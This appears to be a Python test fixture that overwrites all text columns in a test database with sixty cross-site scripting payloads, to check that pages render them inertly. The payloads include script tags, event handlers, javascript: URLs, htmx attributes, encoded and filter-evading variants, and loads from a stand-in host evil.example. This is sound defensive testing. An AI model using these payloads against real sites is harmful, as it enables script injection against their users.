"""Sixty ways to bring a script into a page, as people have tried, each with a mark of its own."""

from typing import Any

from sqlalchemy import select, update

from app.core.db.base import db
from app.project.documents.actions import keep_text
from app.project.documents.models import Part
from tests.house.matrix import Doors
from tests.probe.columns import NOT_WORDS, text_columns

FOREIGN = "//evil.example/x"
RUN = "alert(1)"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script src={FOREIGN}></script>",
    f"<script/src=data:,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"\"><script>{RUN}</script>",
    f"'><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror=\"{RUN}\"",
    f"<img/src=x/onerror={RUN}//",
    f"<IMG SRC={FOREIGN}>",
    f"<img srcset={FOREIGN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=data:image/svg+xml,<svg/onload={RUN}>>",
    f"<math><mtext></p><style><img src=x onerror={RUN}></style>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=JaVaScRiPt:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<base href={FOREIGN}>",
    f"<meta http-equiv=refresh content=0;url={FOREIGN}>",
    f"<link rel=stylesheet href={FOREIGN}>",
    f"<style>@import '{FOREIGN}';</style>",
    f"<p style=background:url({FOREIGN})>x",
    f"<div hx-get={FOREIGN} hx-trigger=load>x</div>",
    f"<div hx-on::load={RUN}>x</div>",
    f"<div data-hx-get={FOREIGN} data-hx-trigger=load>x</div>",
    f"<form data-autosave={FOREIGN}><input name=x></form>",
    f"\" onmouseover={RUN} autofocus onfocus={RUN} x=\"",
    f"' onmouseover={RUN} autofocus onfocus={RUN} x='",
    f"javascript:{RUN}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"＜script＞{RUN}＜/script＞",
    f"{{{{ {RUN} }}}}${{{RUN}}}<%= {RUN} %>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
)  # fmt: skip
ALL = " ".join(PAYLOADS)
KEPT = {"audit_line", "seal"}  # the database itself refuses to change the record
ADDRESSES = ("person.email", "library.contact_email")


def spoil(doors: Doors) -> int:
    """Put all payloads into all texts of people. Returns how many columns. The caller commits."""
    _keep_a_text(doors)
    words = [(place, column) for place, column in text_columns() if place not in NOT_WORDS]
    done = [_spoil(place, column) for place, column in words if column.table.name not in KEPT]
    return sum(done)


def _keep_a_text(doors: Doors) -> None:
    """A text that could not be stored, so that the page that compares two is among them."""
    number, key = int(doors.values["document_id"]), doors.values["part"]
    part = db.session.scalars(select(Part).filter_by(document_id=number, key=key)).one()
    words = part.content.items()
    other = {name: "⟦mine⟧" if isinstance(one, str) else one for name, one in words}
    keep_text(part.id, int(doors.values["enrolment_id"]), doors.people["ilze"], other)


def _spoil(place: str, column: Any) -> bool:
    table: Any = column.table
    for number, value in db.session.execute(select(table.c.id, column)).all():
        new = f'"><svg/onload={RUN}>{number}@x.example' if place in ADDRESSES else _spoiled(value)
        db.session.execute(update(table).where(table.c.id == number).values({column: new}))
    return True


def _spoiled(value: Any) -> Any:
    """The same value with every text in it replaced; keys and codes stay."""
    if isinstance(value, dict):
        return {name: one if name == "key" else _spoiled(one) for name, one in value.items()}
    if isinstance(value, list):
        return [_spoiled(one) for one in value]
    return ALL if isinstance(value, str) and (" " in value or "⟦" in value) else value
